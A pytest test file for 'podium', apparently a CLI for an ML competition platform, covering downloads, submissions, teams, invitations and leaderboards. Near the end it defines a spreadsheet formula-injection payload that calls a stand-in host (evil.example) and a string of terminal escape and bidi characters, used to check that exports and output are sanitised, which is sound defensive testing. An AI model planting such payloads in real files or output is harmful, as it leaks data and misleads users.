"""Each `podium` command against a live server on 127.0.0.1, as a participant would
run it (in-process through `main([...])`, and once through the installed script)."""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import podium_cli
import pytest
from apifixtures import Arena
from artifacts import IMAGE_TAR, image_tar
from conftest import Result
from django.utils import timezone
from factories import MembershipFactory, SubmissionFactory
from podium_cli import upload as upload_module
from podium_cli.client import Api, ApiError

from competitions import standings
from competitions.models import Competition, Submission, Team, TeamInvitation, TeamMembership

pytestmark = pytest.mark.django_db(transaction=True)

Podium = Callable[..., Result]


def test_competitions_list(podium: Podium) -> None:
    result = podium("competitions", "list")
    assert result.code == 0
    header, _rule, row = result.out.splitlines()
    assert header.split() == ["slug", "title", "metric", "start", "end", "state"]
    assert row.startswith("arena  The arena  accuracy")
    assert row.endswith("open")


def test_competitions_list_as_csv(podium: Podium) -> None:
    rows = list(csv.DictReader(podium("competitions", "list", "-v").out.splitlines()))
    assert [(r["slug"], r["state"]) for r in rows] == [("arena", "open")]


def test_competitions_files_lists_only_downloadable_files(podium: Podium) -> None:
    result = podium("competitions", "files", "arena")
    assert result.code == 0
    assert "train.csv" in result.out
    assert "sample_submission.csv" in result.out
    assert "test.csv" not in result.out
    assert "solution" not in result.out


def test_competitions_download_keeps_the_container_layout(
    podium: Podium, arena: Arena, tmp_path: Path
) -> None:
    target = tmp_path / "data"
    result = podium("competitions", "download", "arena", "-p", target)
    assert result.code == 0, result.err
    assert (target / "train" / "train.csv").read_bytes() == arena.train.file.open("rb").read()
    assert (target / "sample_submission.csv").exists()
    assert sorted(p.name for p in target.rglob("*") if p.is_file()) == [
        "sample_submission.csv",
        "train.csv",
    ]
    assert "\r" in result.err  # the progress bar

    again = podium("competitions", "download", "arena", "-p", target)
    assert again.code == 0
    assert again.err.count("up to date, skipped") == 2


def test_competitions_download_one_file(podium: Podium, tmp_path: Path) -> None:
    result = podium("competitions", "download", "arena", "-p", tmp_path, "-f", "train.csv")
    assert result.code == 0
    assert [p.name for p in tmp_path.rglob("*.csv")] == ["train.csv"]
    missing = podium("competitions", "download", "arena", "-p", tmp_path, "-f", "test.csv")
    assert missing.code == 1
    assert "no downloadable file named 'test.csv'" in missing.err


def test_competitions_join(podium: Podium) -> None:
    result = podium("competitions", "join", "arena")
    assert result.code == 0
    assert result.out.strip() == "You are in arena as team 'us'."


def test_competitions_submit_with_a_progress_bar(
    podium: Podium, arena: Arena, tmp_path: Path
) -> None:
    image = tmp_path / "image.tar.gz"
    image.write_bytes(gzip.compress(image_tar(os.urandom(300_000)), compresslevel=1))

    result = podium("competitions", "submit", "arena", "-f", image, "-m", "first try")

    assert result.code == 0, result.err
    submission = Submission.objects.filter(team=arena.me.team).exclude(pk=arena.mine.pk).get()
    assert result.out.strip() == f"Submission {submission.pk} queued."
    assert (submission.description, submission.image_size) == ("first try", image.stat().st_size)
    assert submission.image.name.endswith(".tar.gz")
    assert "\rUploading image.tar.gz [" in result.err
    assert "100%" in result.err


def test_submit_a_large_file_resumes_after_an_interruption(
    podium: Podium,
    arena: Arena,
    tmp_path: Path,
    settings,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    settings.UPLOAD_CHUNK_SIZE = 1000
    monkeypatch.setenv("PODIUM_RESUMABLE_THRESHOLD", "100")
    monkeypatch.setattr(upload_module, "RETRIES", 0)
    image = tmp_path / "big.tar"
    content = image_tar(os.urandom(5500))
    image.write_bytes(content)
    sent: list[int] = []
    real_request = Api.request

    def flaky(self: Api, method: str, path: str, **kwargs: object):  # type: ignore[no-untyped-def]
        if method == "PATCH":
            sent.append(int(kwargs["headers"]["Upload-Offset"]))  # type: ignore[index]
            if len(sent) == 3 and not flaky.failed:  # type: ignore[attr-defined]
                flaky.failed = True  # type: ignore[attr-defined]
                raise ApiError("Connection reset.", status=None)
        return real_request(self, method, path, **kwargs)

    flaky.failed = False  # type: ignore[attr-defined]
    monkeypatch.setattr(Api, "request", flaky)

    first = podium("competitions", "submit", "arena", "-f", image, "-m", "big one")

    assert first.code == 1
    assert f"The upload stopped at 2000 of {len(content)} bytes" in first.err
    assert "run the same command again to resume it" in first.err
    assert "Traceback" not in first.err
    state = json.loads((Path.home() / ".podium" / "uploads.json").read_text())
    assert len(state) == 1

    sent.clear()
    second = podium("competitions", "submit", "arena", "-f", image, "-m", "big one")

    assert second.code == 0, second.err
    assert sent == list(range(2000, len(content), 1000))  # resumed, not restarted
    submission = Submission.objects.get(description="big one")
    assert submission.image.open("rb").read() == content
    assert json.loads((Path.home() / ".podium" / "uploads.json").read_text()) == {}


def test_submit_a_missing_file_says_so(podium: Podium, tmp_path: Path) -> None:
    result = podium("competitions", "submit", "arena", "-f", tmp_path / "nope.tar")
    assert result.code == 1
    assert "nope.tar is not a file" in result.err


def test_submit_shows_the_servers_reason_for_a_refusal(
    podium: Podium, arena: Arena, tmp_path: Path
) -> None:
    arena.competition.daily_submission_limit = 1
    arena.competition.save(update_fields=["daily_submission_limit"])
    image = tmp_path / "image.tar"
    image.write_bytes(IMAGE_TAR)
    result = podium("competitions", "submit", "arena", "-f", image)
    assert result.code == 1
    last = result.err.splitlines()[-1]
    assert last.startswith("podium: error: Your team has used all 1 of today's submissions")
    assert "Traceback" not in result.err


def test_competitions_submissions(podium: Podium, arena: Arena) -> None:
    result = podium("competitions", "submissions", "arena")
    assert result.code == 0
    lines = result.out.splitlines()
    assert lines[0].split() == [
        "id",
        "created_at",
        "description",
        "status",
        "failure",
        "public_score",
        "private_score",
        "selected",
    ]
    assert len(lines) == 3
    assert lines[2].startswith(str(arena.mine.pk))
    assert "scored" in lines[2]
    assert str(arena.theirs.pk) not in [line.split()[0] for line in lines[2:]]


def test_competitions_leaderboard_show(podium: Podium) -> None:
    result = podium("competitions", "leaderboard", "arena", "--show")
    assert result.code == 0
    rows = [line.split()[:3] for line in result.out.splitlines()[2:]]
    assert rows == [["1", "them", "0.9"], ["2", "us", "0.8"]]


def test_competitions_leaderboard_download(podium: Podium, tmp_path: Path) -> None:
    result = podium("competitions", "leaderboard", "arena", "--download", "-p", tmp_path)
    assert result.code == 0
    path = tmp_path / "arena-public-leaderboard.csv"
    assert result.out.strip() == str(path)
    rows = list(csv.DictReader(path.open()))
    assert [(r["rank"], r["team"], r["score"]) for r in rows] == [
        ("1", "them", "0.9"),
        ("2", "us", "0.8"),
    ]


def test_private_leaderboard_before_the_end_shows_the_servers_message(podium: Podium) -> None:
    result = podium("competitions", "leaderboard", "arena", "--kind", "private")
    assert result.code == 1
    assert result.err == (
        "podium: error: The private leaderboard is hidden until the competition ends.\n"
    )


def test_competitions_shakeup(podium: Podium, arena: Arena) -> None:
    hidden = podium("competitions", "shakeup", "arena")
    assert hidden.code == 1
    assert hidden.err == (
        "podium: error: The shake-up is shown once the private leaderboard is revealed.\n"
    )

    Submission.objects.filter(pk=arena.theirs.pk).update(private_score=0.5)
    arena.competition.private_revealed_at = timezone.now()
    arena.competition.save(update_fields=["private_revealed_at"])
    result = podium("competitions", "shakeup", "arena")
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert lines[0].split() == ["private_rank", "public_rank", "team", "delta"]
    assert [line.split() for line in lines[2:]] == [
        ["1", "2", "us", "+1"],
        ["2", "1", "them", "-1"],
    ]
    rows = list(csv.DictReader(podium("competitions", "shakeup", "arena", "-v").out.splitlines()))
    assert [(r["team"], r["delta"]) for r in rows] == [("us", "1"), ("them", "-1")]


def _participant(arena: Arena, username: str, team: str) -> TeamMembership:
    """Another participant of the arena, alone in a team of their own, with no runs."""
    return MembershipFactory(
        team__competition=arena.competition, team__name=team, user__username=username
    )


def test_competitions_team_shows_and_renames(podium: Podium, arena: Arena) -> None:
    result = podium("competitions", "team", "arena")
    assert result.code == 0, result.err
    fields = dict(line.split(":", 1) for line in result.out.splitlines())
    assert fields["team"].strip() == "us"
    assert fields["competition"].strip() == "arena"
    assert fields["members"].strip() == "alice"
    assert fields["today"].strip().startswith("1 of 3 submissions used, 2 left; resets at ")

    renamed = podium("competitions", "team", "arena", "--rename", "Us two")
    assert renamed.code == 0, renamed.err
    assert "Team renamed to 'Us two'." in renamed.err
    assert renamed.out.splitlines()[0] == "team:              Us two"
    assert Team.objects.get(pk=arena.me.team.pk).name == "Us two"

    taken = podium("competitions", "team", "arena", "--rename", "them")
    assert taken.code == 1
    assert taken.err == "podium: error: Another team in The arena is already called 'them'.\n"


def test_competitions_invite(podium: Podium, arena: Arena) -> None:
    _participant(arena, "bob", "bobs")
    result = podium("competitions", "invite", "arena", "bob")
    assert result.code == 0, result.err
    sent = TeamInvitation.objects.get(team=arena.me.team)
    assert result.out == f"Invitation {sent.pk} sent to bob to join team 'us'.\n"

    again = podium("competitions", "invite", "arena", "bob")
    assert again.code == 1
    assert again.err == "podium: error: bob already has a pending invitation to us.\n"
    ghost = podium("competitions", "invite", "arena", "ghost")
    assert ghost.code == 1
    assert ghost.err.startswith("podium: error: No participant of ") and "'ghost'" in ghost.err


def test_competitions_invitations_sent_and_received(podium: Podium, arena: Arena) -> None:
    assert podium("competitions", "invitations", "arena").out == "No results.\n"
    bob = _participant(arena, "bob", "bobs")
    carol = _participant(arena, "carol", "carols")
    sent = TeamInvitation.objects.create(
        team=arena.me.team, invitee=bob.user, invited_by=arena.me.user
    )
    received = TeamInvitation.objects.create(
        team=carol.team, invitee=arena.me.user, invited_by=carol.user
    )
    TeamInvitation.objects.create(team=carol.team, invitee=bob.user, invited_by=carol.user)

    result = podium("competitions", "invitations", "arena")
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert lines[0].split() == [
        "id",
        "direction",
        "team",
        "invitee",
        "invited_by",
        "status",
        "created_at",
    ]
    assert [line.split()[:6] for line in lines[2:]] == [
        [str(sent.pk), "sent", "us", "bob", "alice", "pending"],
        [str(received.pk), "received", "carols", "alice", "carol", "pending"],
    ]

    missing = podium("competitions", "invitations", "nope")
    assert missing.code == 1
    assert missing.err == "podium: error: No competition 'nope'.\n"


def test_invitation_accept_and_decline(podium: Podium, arena: Arena) -> None:
    carol = _participant(arena, "carol", "carols")
    dave = _participant(arena, "dave", "daves")
    first = TeamInvitation.objects.create(
        team=carol.team, invitee=arena.me.user, invited_by=carol.user
    )
    second = TeamInvitation.objects.create(
        team=dave.team, invitee=arena.me.user, invited_by=dave.user
    )

    refused = podium("invitation", first.pk, "--accept")  # alice has runs in team us
    assert refused.code == 1
    assert refused.err.startswith("podium: error: alice has already made submissions in team us;")
    assert "Traceback" not in refused.err

    declined = podium("invitation", first.pk, "--decline")
    assert declined.code == 0, declined.err
    assert declined.out == f"Invitation {first.pk} declined.\n"
    assert TeamInvitation.objects.get(pk=first.pk).status == "declined"
    gone = podium("invitation", first.pk, "--accept")  # no longer pending: not addressed to me
    assert gone.code == 1
    assert gone.err == "podium: error: No such invitation.\n"

    arena.mine.delete()
    accepted = podium("invitation", second.pk, "--accept")
    assert accepted.code == 0, accepted.err
    assert (
        accepted.out == f"Invitation {second.pk} accepted: you are now in team 'daves' of arena.\n"
    )
    assert TeamMembership.objects.get(user=arena.me.user).team == dave.team


def test_invitation_needs_an_answer(podium: Podium, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        podium("invitation", "1")
    assert exit_info.value.code == 2
    assert "one of the arguments --accept --decline is required" in capsys.readouterr().err


def test_submission_shows_status_and_scores(podium: Podium, arena: Arena) -> None:
    result = podium("submission", arena.mine.pk)
    assert result.code == 0
    fields = dict(line.split(None, 1) for line in result.out.splitlines() if " " in line)
    assert fields["id:"] == str(arena.mine.pk)
    assert fields["status:"] == "scored"
    assert fields["public_score:"] == "0.8 (rank 2 of 2 teams on the public leaderboard)"
    assert "private_score:" not in fields  # null before the reveal


def _with_exact_match(arena: Arena) -> None:
    Competition.objects.filter(pk=arena.competition.pk).update(
        additional_metrics=["qa_exact_match"]
    )
    Submission.objects.filter(pk=arena.mine.pk).update(
        public_additional_scores={"qa_exact_match": 0.625},
        private_additional_scores={"qa_exact_match": 0.5},
    )
    standings.standings_rebuild(competition_id=arena.competition.pk)


def test_submission_shows_additional_scores_private_only_after_the_reveal(
    podium: Podium, arena: Arena
) -> None:
    _with_exact_match(arena)
    fields = dict(
        line.split(":", 1) for line in podium("submission", arena.mine.pk).out.splitlines()
    )
    assert fields["qa_exact_match (public)"].strip() == "0.625"
    assert "qa_exact_match (private)" not in fields
    Competition.objects.filter(pk=arena.competition.pk).update(private_revealed_at=timezone.now())
    fields = dict(
        line.split(":", 1) for line in podium("submission", arena.mine.pk).out.splitlines()
    )
    assert fields["qa_exact_match (private)"].strip() == "0.5"


def test_the_leaderboard_has_a_column_per_additional_metric(podium: Podium, arena: Arena) -> None:
    _with_exact_match(arena)
    result = podium("competitions", "leaderboard", "arena", "--show")
    assert result.code == 0, result.err
    header, _, *rows = result.out.splitlines()
    assert header.split() == [
        "rank",
        "team",
        "score",
        "qa_exact_match",
        "submissions",
        "last_submission",
    ]
    (ours,) = [row.split() for row in rows if row.split()[1] == "us"]
    assert ours[2:4] == ["0.8", "0.625"]


def test_submission_of_another_team_is_not_found(podium: Podium, arena: Arena) -> None:
    result = podium("submission", arena.theirs.pk)
    assert result.code == 1
    assert result.err == "podium: error: No such submission.\n"


def test_submission_wait_polls_until_scored(podium: Podium, arena: Arena) -> None:
    queued = SubmissionFactory(
        team=arena.me.team, status="queued", public_score=None, private_score=None
    )

    def finish() -> None:
        Submission.objects.filter(pk=queued.pk).update(status="scored", public_score=0.77)

    timer = threading.Timer(0.5, finish)
    timer.start()
    try:
        result = podium("submission", queued.pk, "--wait", "--interval", "0.1")
    finally:
        timer.join()

    assert result.code == 0, result.err
    assert f"submission {queued.pk}: queued (position 1 in the queue)" in result.err
    assert f"submission {queued.pk}: scored" in result.err
    assert "public_score:      0.77" in result.out


def test_submission_wait_exits_non_zero_with_the_failure_message(
    podium: Podium, arena: Arena
) -> None:
    failed = SubmissionFactory(
        team=arena.me.team,
        status="failed",
        failure_kind="memory_limit",
        failure_message="exceeded memory limit (8 GB)",
        public_score=None,
        private_score=None,
    )
    result = podium("submission", failed.pk, "--wait")
    assert result.code == 1
    assert result.err.endswith(
        f"podium: submission {failed.pk} failed (memory_limit): Your run exceeded the memory "
        "limit (8 GB) and was killed; files in /tmp and /dev/shm count toward it. The limit "
        "in bytes is in PODIUM_MEMORY_LIMIT_BYTES.\n"
    )


def test_submission_log_hidden_shows_the_servers_reason(podium: Podium, arena: Arena) -> None:
    result = podium("submission", arena.mine.pk, "--log")
    assert result.code == 1
    assert "hide the logs of scored runs" in result.err
    # The hint uses this client's own flags.
    assert "podium competitions submit arena -f IMAGE --debug" in result.err


def test_submission_cancel_and_select(podium: Podium, arena: Arena) -> None:
    queued = SubmissionFactory(
        team=arena.me.team, status="queued", public_score=None, private_score=None
    )
    cancelled = podium("submission", queued.pk, "--cancel")
    assert cancelled.code == 0
    assert "status:            cancelled" in cancelled.out
    assert Submission.objects.get(pk=queued.pk).status == "cancelled"
    again = podium("submission", queued.pk, "--cancel")
    assert again.code == 1
    assert "only queued or running submissions can be cancelled" in again.err
    selected = podium("submission", arena.mine.pk, "--select")
    assert selected.code == 0
    assert "is_selected:       True" in selected.out
    assert Submission.objects.get(pk=arena.mine.pk).is_selected


def test_unknown_competition_shows_the_servers_message(podium: Podium) -> None:
    result = podium("competitions", "files", "nope")
    assert result.code == 1
    assert result.err == "podium: error: No competition 'nope'.\n"


def test_a_wrong_token_says_how_to_set_one(podium: Podium, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PODIUM_TOKEN", "wrong")
    result = podium("competitions", "submissions", "arena")
    assert result.code == 1
    assert "Invalid token." in result.err
    assert "Set PODIUM_TOKEN" in result.err


def test_an_unreachable_server_is_one_line(podium: Podium, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PODIUM_URL", "http://127.0.0.1:9")
    result = podium("competitions", "list")
    assert result.code == 1
    assert result.err.startswith("podium: error: Cannot reach the Podium server at")
    assert len(result.err.splitlines()) == 1


def test_the_config_file_is_read_and_the_environment_wins(
    podium: Podium,
    monkeypatch: pytest.MonkeyPatch,
    live_server,  # type: ignore[no-untyped-def]
) -> None:
    token = os.environ["PODIUM_TOKEN"]
    monkeypatch.delenv("PODIUM_URL")
    monkeypatch.delenv("PODIUM_TOKEN")
    folder = Path.home() / ".podium"
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({"url": live_server.url, "token": token}))
    assert podium("competitions", "submissions", "arena").code == 0

    monkeypatch.setenv("PODIUM_TOKEN", "from-the-environment")
    assert "Invalid token." in podium("competitions", "submissions", "arena").err


def test_the_installed_console_script_runs(
    podium: Podium,
    live_server,  # type: ignore[no-untyped-def]
) -> None:
    script = Path(sys.executable).with_name("podium")
    completed = subprocess.run(
        [str(script), "competitions", "leaderboard", "arena"],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ},
        check=False,
    )
    assert completed.returncode == 0, completed.stderr
    assert "them" in completed.stdout
    missing = subprocess.run(
        [str(script), "submission", "999999"], capture_output=True, text=True, timeout=60
    )
    assert missing.returncode == 1
    assert missing.stderr == "podium: error: No such submission.\n"

    # `podium … | head -1`: the reader is gone before the output is written.
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        piped = subprocess.run(
            [sys.executable, "-m", "podium_cli", "competitions", "leaderboard", "arena"],
            env={**os.environ, "PYTHONPATH": str(Path(podium_cli.__file__).parents[1])},
            stdout=write_end,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    finally:
        os.close(write_end)
    assert piped.stderr == ""
    assert piped.returncode == 141  # what a shell reports for a reader that went away


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\rbad\u202eevil"


def test_csv_exports_neutralise_formulas_and_keep_numbers(
    podium: Podium, arena: Arena, tmp_path: Path
) -> None:
    # Names made before names were checked (or by an organizer): exports must cope.
    Team.objects.filter(pk=arena.rival.team_id).update(name=FORMULA)
    Team.objects.filter(pk=arena.me.team_id).update(name="-2+3")
    Submission.objects.filter(pk=arena.theirs.pk).update(public_score=-0.25)
    standings.standing_refresh(team_id=arena.rival.team_id)  # as a rescore would

    podium("competitions", "leaderboard", "arena", "--download", "-p", tmp_path)
    printed = podium("competitions", "leaderboard", "arena", "-v")

    for text in ((tmp_path / "arena-public-leaderboard.csv").read_text(), printed.out):
        rows = list(csv.DictReader(text.splitlines()))
        assert [(r["team"], r["score"]) for r in rows] == [
            ("'-2+3", "0.8"),
            ("'" + FORMULA, "-0.25"),
        ]


def test_the_cli_prints_no_control_characters_from_the_server(podium: Podium, arena: Arena) -> None:
    Team.objects.filter(pk=arena.rival.team_id).update(name=f"them{ESCAPES}")
    Submission.objects.filter(pk=arena.mine.pk).update(description=f"run{ESCAPES}")

    outputs = [
        podium("competitions", "leaderboard", "arena", "--show"),
        podium("competitions", "leaderboard", "arena", "-v"),
        podium("competitions", "submissions", "arena"),
        podium("submission", str(arena.mine.pk)),
    ]

    for result in outputs:
        assert result.code == 0, result.err
        for char in ("\x1b", "\x07", "\r", "\u202e"):
            assert char not in result.out + result.err
    assert "them]0;pwned[2Jbadevil" in outputs[0].out
